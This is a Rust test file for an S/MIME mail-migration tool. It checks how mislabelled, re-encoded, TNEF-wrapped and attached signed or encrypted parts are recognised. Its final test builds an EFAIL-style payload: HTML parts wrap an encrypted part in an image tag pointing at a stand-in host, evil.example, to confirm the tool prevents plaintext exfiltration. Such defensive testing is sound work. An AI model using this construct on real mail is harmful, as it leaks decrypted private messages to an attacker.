//! Labels, names and transfer encodings that lie: the bytes decide what a part is. And what S/MIME is
//! packed into: TNEF, a `smime.p7m` that is a whole `multipart/signed`, attached messages, PEC.

use std::fmt::Write as _;
use std::fs;

use crate::forms::{
    FROM_OLGA, TEXT, base64, clear_signed, compressed, encrypted, mail, migrate, mixed, object,
    pki, signed,
};
use crate::support::Sandbox;
use crate::support::table::{Row, rows};
use crate::support::tools::{self, LATER};

/// Content-Type fields under which S/MIME objects have been met; without one, nothing is said.
const LABELS: [&str; 22] = [
    "Content-Type: application/pkcs7-mime; smime-type=enveloped-data; name=smime.p7m\r\n",
    "CONTENT-TYPE: APPLICATION/X-PKCS7-MIME; NAME=\"SMIME.P7M\"\r\n",
    "Content-Type: application/octet-stream; name=smime.p7m\r\n",
    "Content-Type: application/octet-stream; name=message.bin\r\n",
    "Content-Type: application/octet-stream\r\n",
    "Content-Type: application/octet-stream\r\nContent-Disposition: attachment;\r\n filename*0=\"smi\";\r\n filename*1=\"me.p7m\"\r\n",
    "Content-Type: application/pkcs7-mime;\r\n\tsmime-type=\"authenticated-enveloped-data\"\r\n",
    "Content-Type: application/pkcs7-mime (a (nested) comment); (x) name*=utf-8''sm%69me.p7m\r\n",
    "Content-Type: application / pkcs7-mime ; name = \"smime.p7m\"\r\n",
    "Content-Type:\r\n application/x-pkcs7-mime;\r\n name=\"=?utf-8?B?c21pbWUucDdt?=\"\r\n",
    "Content-Type: application/pkcs7-mime; name=smime.p7m; smime-type=compressed-data\r\n",
    "Content-Type: application/pkcs7-mime; smime-type=certs-only; name=smime.p7c\r\n",
    "Content-Type: application/pkcs7-mime; name=\"smi\\me.p7m\"; x=\"a\\\"b\"\r\n",
    "Content-Type: application/pkcs7-mime name=smime.p7m\r\n",
    "Content-Type: pkcs7-mime; smime-type=enveloped-data\r\n",
    "Content-Type: text/plain; name=smime.p7m\r\n",
    "Content-Type: application/pkcs7-mime; name=smime.p7z\r\n",
    "Content-Type: application/pkcs10; name=smime.p10\r\n",
    "Content-Type: application/cms; encapsulatedContent=x\r\n",
    "Content-Type: image/gif; name=smime.p7m\r\n",
    "Content-Type: text/html\r\n",
    "",
];

/// A transfer encoding and a body in it, or in another.
fn bodies(der: &[u8]) -> Vec<(&'static str, Vec<u8>)> {
    let text = base64(der);
    let one_line = text.replace("\r\n", "");
    let unpadded = text.trim_end().trim_end_matches('=').to_owned();
    let narrow: String = one_line
        .as_bytes()
        .chunks(61)
        .map(|line| format!("{}\r\n", String::from_utf8_lossy(line)))
        .collect();
    let quoted: String = der
        .chunks(20)
        .map(|line| line.iter().map(|b| format!("={b:02X}")).collect::<String>() + "=\r\n")
        .collect();
    let pem = format!("-----BEGIN PKCS7-----\n{text}-----END PKCS7-----\n");
    vec![
        ("base64", text.clone().into()),
        ("BASE64 ", one_line.into()),
        ("\"base64\"", unpadded.into()),
        ("base64", narrow.into()),
        ("base64 (x)", format!("\r\n\r\n{text}\r\n\r\n").into()),
        ("binary", der.to_vec()),
        ("8bit", der.to_vec()),
        ("base64", der.to_vec()),
        ("quoted-printable", quoted.clone().into()),
        ("7bit", text.clone().into()),
        ("quoted-printable", text.clone().into()),
        ("x-unknown", text.clone().into()),
        ("7bit", pem.clone().into()),
        ("base64", base64(pem.as_bytes()).into()),
        ("base64", quoted.into()),
    ]
}

/// Runs p7mill once over many messages; their rows come in their order.
fn migrate_all(messages: &[Vec<u8>]) -> Vec<Row> {
    let sandbox = Sandbox::new();
    for (at, message) in messages.iter().enumerate() {
        sandbox.write(&format!("in/{at:05}.eml"), message);
    }
    let root = pki().certificate("root").to_string_lossy().into_owned();
    let keys = pki()
        .path()
        .join("keys-otto")
        .to_string_lossy()
        .into_owned();
    sandbox.run(vec![
        "migrate", "in", "--out", "OUT", "--now", LATER, "--trust", &root, "--keys", &keys,
    ]);
    let found: Vec<Row> = rows(&sandbox.path().join("OUT/report/messages.csv"))
        .into_iter()
        .filter(|row| row.at("part").is_empty())
        .collect();
    assert_eq!(found.len(), messages.len());
    found
}

#[test]
fn every_label_in_every_transfer_encoding_is_seen_through() {
    for (der, form, outcome, verdict) in [
        (encrypted(TEXT), "enveloped", "decrypted", ""),
        (signed(TEXT, "-nodetach"), "opaque-signed", "kept", "valid"),
        (compressed(TEXT), "compressed", "kept", ""),
    ] {
        let mut messages = Vec::new();
        let mut told = Vec::new();
        for label in LABELS {
            for (encoding, body) in bodies(&der) {
                // Text that nothing calls an object is not searched for one.
                let unlabelled = label.is_empty() || label.contains("text/html");
                let encoded = ["base64", "quoted-printable", "binary"].contains(&encoding);
                if unlabelled && !(encoded && body.first() != Some(&b'-')) {
                    continue;
                }
                if unlabelled && encoding != "binary" && (body[0] == 0x30) {
                    continue;
                }
                if unlabelled && encoding == "quoted-printable" && body[0] != b'=' {
                    continue;
                }
                if unlabelled && encoding == "base64" && body[0] == b'=' {
                    continue;
                }
                let head = format!(
                    "{FROM_OLGA}MIME-Version: 1.0\r\n{label}Content-Transfer-Encoding: {encoding}\r\n\r\n"
                );
                told.push(format!("{head}{:?}", String::from_utf8_lossy(&body[..40])));
                messages.push([head.as_bytes(), &body].concat());
            }
        }
        assert!(messages.len() > 250);
        let mut wrong = String::new();
        for (row, told) in migrate_all(&messages).iter().zip(&told) {
            let found = ["form", "outcome", "verdict"].map(|column| row.at(column));
            // Where the encoding lies, a reader may show something beside the object.
            let sound = found == [form, outcome, verdict]
                || (verdict == "valid" && found == [form, outcome, "indeterminate"]);
            if !sound {
                writeln!(wrong, "{found:?} {}\n{told}", row.at("reason")).unwrap();
            }
        }
        assert!(wrong.is_empty(), "{wrong}");
    }
}

#[test]
fn words_around_an_object_are_not_covered() {
    let pem = format!(
        "-----BEGIN PKCS7-----\r\n{}-----END PKCS7-----\r\n",
        base64(&signed(TEXT, "-nodetach"))
    );
    for (body, verdict) in [
        (pem.clone(), "valid"),
        (format!("Pay 900 to Mallory.\r\n{pem}"), "indeterminate"),
        (format!("{pem}Pay 900 to Mallory.\r\n"), "indeterminate"),
    ] {
        for label in [
            "application/pkcs7-mime; name=smime.p7m",
            "text/plain; name=smime.p7m",
        ] {
            // What is labelled as text is shown as it stands, whatever it is.
            let verdict = if label.starts_with("text/") {
                "indeterminate"
            } else {
                verdict
            };
            let message = mail(FROM_OLGA, &format!("Content-Type: {label}\r\n\r\n{body}"));
            let made = migrate(&message, false);
            assert_eq!(
                made.words(),
                ["opaque-signed", "kept", "", verdict],
                "{message}"
            );
        }
    }
}

#[test]
fn labels_of_signed_mail_that_lie_change_nothing() {
    let good = clear_signed(TEXT);
    let (start, rest) = good.split_once("boundary=sig").unwrap();
    let label = "Content-Type: application/pkcs7-signature; name=smime.p7s";
    for (head, signature) in [
        (start, label),
        ("Content-Type: multipart/signed; ", label),
        (
            "Content-Type: multipart/signed; protocol=\"application/x-pkcs7-signature\"; ",
            label,
        ),
        (
            "Content-Type: multipart/signed; protocol=\"application/pgp-signature\"; ",
            label,
        ),
        (
            "Content-Type: multipart/signed; protocol=x/y; micalg=md5; ",
            label,
        ),
        (
            "Content-Type: MULTIPART/SIGNED (c); micalg=\"sha-1,sha256\";\r\n\t",
            label,
        ),
        (
            "Content-Type: multipart/signed; ",
            "Content-Type: application/octet-stream",
        ),
        (
            "Content-Type: multipart/signed; ",
            "Content-Type: application/pkcs7-mime",
        ),
        (
            "Content-Type: multipart/signed; ",
            "Content-Type: application/pgp-signature",
        ),
    ] {
        let entity = format!("{head}boundary=sig{}", rest.replace(label, signature));
        let made = migrate(mail(FROM_OLGA, &entity), false);
        assert_eq!(
            made.words(),
            ["clear-signed", "kept", "", "valid"],
            "{entity}"
        );
    }
    let around = clear_signed(&object("enveloped-data", &encrypted(TEXT)));
    let made = migrate(mail(FROM_OLGA, &around), true);
    assert_eq!(
        made.words(),
        ["clear-signed>enveloped", "decrypted", "", "valid"]
    );
    // Without its signature it is no ordinary mail.
    let cut = good
        .split_once("\r\n--sig\r\nContent-Type: application/pkcs7")
        .unwrap()
        .0;
    let made = migrate(mail(FROM_OLGA, cut), false);
    assert_eq!(
        made.words(),
        ["clear-signed", "malformed", "cms-malformed", "invalid"]
    );
}

#[test]
fn a_file_that_holds_a_whole_signed_message_is_that_message() {
    let entity = clear_signed(TEXT);
    let encoded = base64(entity.as_bytes());
    for label in [
        "application/pkcs7-mime; smime-type=multipart-signed; name=smime.p7m",
        "application/octet-stream; name=SMIME.p7m",
        "multipart/signed; name=smime.p7m",
    ] {
        let whole =
            format!("Content-Type: {label}\r\nContent-Transfer-Encoding: base64\r\n\r\n{encoded}");
        let made = migrate(mail(FROM_OLGA, &whole), false);
        assert_eq!(
            made.words(),
            ["clear-signed", "kept", "", "valid"],
            "{label}"
        );
        let part = mixed(&[TEXT, &whole]);
        let made = migrate(mail(FROM_OLGA, &part), false);
        assert_eq!(
            made.words(),
            ["partial:clear-signed", "kept", "", "indeterminate"],
            "{label}"
        );
    }
    let inner = object("enveloped-data", &encrypted(&entity));
    let whole = format!(
        "Content-Type: application/octet-stream; name=smime.p7m\r\nContent-Transfer-Encoding: base64\r\n\r\n{}",
        base64(inner.as_bytes())
    );
    let made = migrate(mail(FROM_OLGA, &whole), true);
    assert_eq!(
        made.words(),
        ["enveloped>clear-signed", "decrypted", "", "valid"]
    );
}

/// A TNEF stream (MS-OXTNEF): message class, text, attachments by name, media type and content.
fn tnef(class: &str, body: &str, files: &[(&str, &str, &[u8])]) -> Vec<u8> {
    let attribute = |level: u8, id: u32, data: &[u8]| {
        let sum = data
            .iter()
            .fold(0_u16, |sum, byte| sum.wrapping_add(u16::from(*byte)));
        [
            &[level][..],
            &id.to_le_bytes(),
            &u32::try_from(data.len()).unwrap().to_le_bytes(),
            data,
            &sum.to_le_bytes(),
        ]
        .concat()
    };
    let property = |id: u16, value: &str| {
        let value = format!("{value}\0");
        let mut out = [
            &0x1e_u16.to_le_bytes()[..],
            &id.to_le_bytes(),
            &1_u32.to_le_bytes(),
            &u32::try_from(value.len()).unwrap().to_le_bytes(),
            value.as_bytes(),
        ]
        .concat();
        out.resize(out.len().next_multiple_of(4), 0);
        out
    };
    let mut out = vec![0x78, 0x9f, 0x3e, 0x22, 1, 0];
    out.extend(attribute(1, 0x0008_9006, &[0, 0, 1, 0]));
    out.extend(attribute(1, 0x0007_8008, format!("{class}\0").as_bytes()));
    if !body.is_empty() {
        out.extend(attribute(1, 0x0002_800c, format!("{body}\0").as_bytes()));
    }
    for (name, media_type, content) in files {
        out.extend(attribute(
            2,
            0x0006_9002,
            &[1, 0, 0xff, 0xff, 0xff, 0xff, 0, 0, 0, 0, 0, 0, 0, 0],
        ));
        out.extend(attribute(2, 0x0001_8010, format!("{name}\0").as_bytes()));
        out.extend(attribute(2, 0x0006_800f, content));
        let list = [
            2_u32.to_le_bytes().to_vec(),
            property(0x3707, name),
            property(0x370e, media_type),
        ]
        .concat();
        out.extend(attribute(2, 0x0006_9005, &list));
    }
    out
}

fn winmail(stream: &[u8]) -> String {
    format!(
        "Content-Type: application/ms-tnef; name=winmail.dat\r\nContent-Transfer-Encoding: base64\r\n\r\n{}",
        base64(stream)
    )
}

#[test]
fn smime_in_tnef_is_named_judged_and_decrypted() {
    let pkcs7 = "application/pkcs7-mime";
    let sealed = encrypted(clear_signed(TEXT));
    let only = tnef("IPM.Note.SMIME", "", &[("SMIME.p7m", pkcs7, &sealed)]);
    let made = migrate(mail(FROM_OLGA, &mixed(&[TEXT, &winmail(&only)])), true);
    assert_eq!(
        made.words(),
        [
            "partial:enveloped>clear-signed",
            "decrypted",
            "",
            "indeterminate"
        ]
    );
    let text = made.text();
    assert!(
        text.contains("Content-Type: message/rfc822") && !text.contains("ms-tnef"),
        "{text}"
    );

    let made = migrate(mail(FROM_OLGA, &winmail(&only)), true);
    assert_eq!(
        made.words(),
        [
            "partial:enveloped>clear-signed",
            "decrypted",
            "",
            "indeterminate"
        ]
    );
    let again = migrate(&made.written, false);
    assert_eq!(
        again.words(),
        ["clear-signed", "kept", "", "valid"],
        "{}",
        made.text()
    );

    let signed_class = "IPM.Note.SMIME.MultipartSigned";
    let whole = clear_signed(TEXT);
    let stream = tnef(
        signed_class,
        "",
        &[("smime.p7m", "multipart/signed", whole.as_bytes())],
    );
    let made = migrate(mail(FROM_OLGA, &winmail(&stream)), true);
    assert_eq!(
        made.words(),
        ["partial:clear-signed", "kept", "", "indeterminate"]
    );

    // What else the stream holds must not get lost.
    let more = tnef(
        "IPM.Note",
        "Hello",
        &[("a.txt", "text/plain", b"a"), ("smime.p7m", pkcs7, &sealed)],
    );
    let message = mail(FROM_OLGA, &mixed(&[TEXT, &winmail(&more)]));
    let made = migrate(&message, true);
    assert_eq!(
        made.words(),
        [
            "partial:enveloped>clear-signed",
            "refused",
            "tnef-holds-more",
            "indeterminate"
        ]
    );
    assert_eq!(made.written, message.as_bytes());
    let nested = tnef("IPM.Note", "", &[("message", "", &only)]);
    let made = migrate(mail(FROM_OLGA, &winmail(&nested)), true);
    assert_eq!(
        made.words()[..2],
        ["partial:enveloped>clear-signed", "decrypted"]
    );

    let plain = tnef("IPM.Note", "Hello", &[("a.txt", "text/plain", b"a")]);
    assert_eq!(
        migrate(mail(FROM_OLGA, &winmail(&plain)), true).words(),
        ["plain", "plain", "", ""]
    );
    let lost = tnef("IPM.Note.SMIME", "", &[]);
    let made = migrate(mail(FROM_OLGA, &winmail(&lost)), true);
    assert_eq!(made.words()[1..3], ["malformed", "cms-malformed"]);
}

#[test]
fn signed_documents_make_no_verdict_and_give_no_certificates() {
    let pdf = signed(b"%PDF-1.4\nan invoice\n", "-nodetach");
    let file = |name: &str, der: &[u8]| {
        format!(
            "Content-Type: application/pkcs7-mime; name={name}\r\nContent-Transfer-Encoding: base64\r\n\r\n{}",
            base64(der)
        )
    };
    let detached = signed(b"%PDF-1.4\nan invoice\n", "");
    for entity in [
        mixed(&[TEXT, &file("contract.pdf.p7m", &pdf)]),
        file("contract.pdf.p7m", &pdf),
        file(
            "IT01234567890_00001.xml.p7m",
            &signed("<?xml version='1.0'?><x/>", "-nodetach"),
        ),
        mixed(&[TEXT, &file("offer.docx.p7s", &detached)]),
        mixed(&[TEXT, &file("twice.pdf.p7m.p7m", &signed(&pdf, "-nodetach"))]),
    ] {
        let made = migrate(mail(FROM_OLGA, &entity), true);
        assert_eq!(made.words(), ["plain", "plain", "", ""], "{entity}");
        assert_eq!(made.first().at("parts"), "1");
        assert!(made.signatures.is_empty());
        assert!(
            !made.reports.contains("olga@example.org,\""),
            "no certificate"
        );
    }
    // A message may be named after its subject.
    let message = file("www.example.com.p7m", &signed(TEXT, "-nodetach"));
    let made = migrate(mail(FROM_OLGA, &message), true);
    assert_eq!(made.words(), ["opaque-signed", "kept", "", "valid"]);
    // And the mail around a document keeps its own verdict.
    let made = migrate(
        mail(
            FROM_OLGA,
            &clear_signed(&mixed(&[TEXT, &file("contract.pdf.p7m", &pdf)])),
        ),
        true,
    );
    assert_eq!(made.words(), ["clear-signed", "kept", "", "valid"]);
}

fn attached(message: &str, encoding: &str) -> String {
    let body = match encoding {
        "base64" => base64(message.as_bytes()),
        "quoted-printable" => message.replace('=', "=3D"),
        _ => message.to_owned(),
    };
    format!(
        "Content-Type: message/rfc822; name=postacert.eml\r\nContent-Transfer-Encoding: {encoding}\r\n\r\n{body}"
    )
}

/// Certified mail (PEC, RFC 6109): the provider signs an envelope, which holds the message and what the
/// provider certifies.
#[test]
fn in_certified_mail_carrier_and_message_are_judged_each_by_itself() {
    let pdf = signed(b"%PDF-1.4\nan invoice\n", "-nodetach");
    let message = mail(
        "From: otto@example.org\r\nTo: someone@example.org\r\n",
        &mixed(&[
            TEXT,
            &format!(
                "Content-Type: application/pkcs7-mime; name=fattura.xml.p7m\r\nContent-Transfer-Encoding: base64\r\n\r\n{}",
                base64(&pdf)
            ),
        ]),
    );
    let daticert = "Content-Type: application/xml; name=daticert.xml\r\n\r\n<postacert tipo=\"posta-certificata\"/>\r\n";
    let carrier = clear_signed(&mixed(&[TEXT, daticert, &attached(&message, "7bit")]));
    let from = "From: \"Per conto di: otto@example.org\" <olga@example.org>\r\nTo: someone@example.org\r\n";
    let made = migrate(mail(from, &carrier), true);
    assert_eq!(made.words(), ["clear-signed", "kept", "", "valid"]);
    assert_eq!(made.rows[1].at("form"), "plain");
    assert_eq!(made.rows[1].at("verdict"), "");
    assert_eq!(made.signatures.len(), 1);
}

#[test]
fn a_message_that_is_one_encoded_message_is_looked_into() {
    let sealed = mail(
        FROM_OLGA,
        &object("enveloped-data", &encrypted(clear_signed(TEXT))),
    );
    let carrier = mail(FROM_OLGA, &attached(&sealed, "base64"));
    let made = migrate(&carrier, true);
    assert_eq!(
        made.words()[..2],
        ["partial:enveloped>clear-signed", "decrypted"]
    );
    let again = migrate(&made.written, false);
    assert_eq!(again.rows[1].at("verdict"), "valid", "{}", made.text());
}

#[test]
fn attached_messages_are_looked_into_in_every_transfer_encoding() {
    let inner = mail(FROM_OLGA, &clear_signed(TEXT));
    let sealed = mail(
        FROM_OLGA,
        &object("enveloped-data", &encrypted(clear_signed(TEXT))),
    );
    for encoding in ["7bit", "base64", "quoted-printable"] {
        let carrier = mail(FROM_OLGA, &mixed(&[TEXT, &attached(&inner, encoding)]));
        let made = migrate(&carrier, true);
        assert_eq!(
            made.words(),
            ["partial:clear-signed", "kept", "", ""],
            "{encoding}"
        );
        assert_eq!(made.rows[1].at("verdict"), "valid", "{encoding}");
        assert_eq!(made.rows[1].at("part"), "2");
        let carrier = mail(FROM_OLGA, &mixed(&[TEXT, &attached(&sealed, encoding)]));
        let made = migrate(&carrier, true);
        assert_eq!(
            made.words()[..2],
            ["partial:enveloped>clear-signed", "decrypted"],
            "{encoding}"
        );
        let again = migrate(&made.written, false);
        assert_eq!(
            again.rows[1].at("verdict"),
            "valid",
            "{encoding}:\n{}",
            made.text()
        );
    }
}

/// Promise 47: a remote image begun in one part and ended in another must not carry the plaintext
/// away (the "direct exfiltration" of EFAIL).
#[test]
fn decrypted_parts_stay_apart_from_their_neighbours() {
    let html = |text: &str| format!("Content-Type: text/html\r\n\r\n{text}\r\n");
    for entity in [
        mixed(&[
            &html("<img src=\"http://evil.example/"),
            &object("enveloped-data", &encrypted(TEXT)),
            &html("\">"),
        ]),
        mixed(&[
            &html("<img src=\"http://evil.example/"),
            &object(
                "enveloped-data",
                &encrypted("Content-Type: text/html\r\n\r\nThe meeting is at ten.\r\n"),
            ),
            &html("\">"),
        ]),
        mixed(&[
            &html("<img src=\"http://evil.example/"),
            &object(
                "enveloped-data",
                &encrypted("no header, The meeting is at ten.\r\n"),
            ),
            &html("\">"),
        ]),
    ] {
        let made = migrate(mail(FROM_OLGA, &entity), true);
        if made.first().at("outcome") != "decrypted" {
            assert!(entity.contains("pkcs7"), "{:?}", made.words());
            continue;
        }
        if !tools::has("python3") {
            return;
        }
        let folder = tempfile::tempdir().unwrap();
        let file = folder.path().join("mail.eml");
        fs::write(&file, &made.written).unwrap();
        let said = tools::judge(
            "neighbours.py",
            &[file.as_os_str(), "The meeting is at ten.".as_ref()],
        );
        assert_eq!(said.trim(), "apart", "{}", made.text());
    }
}
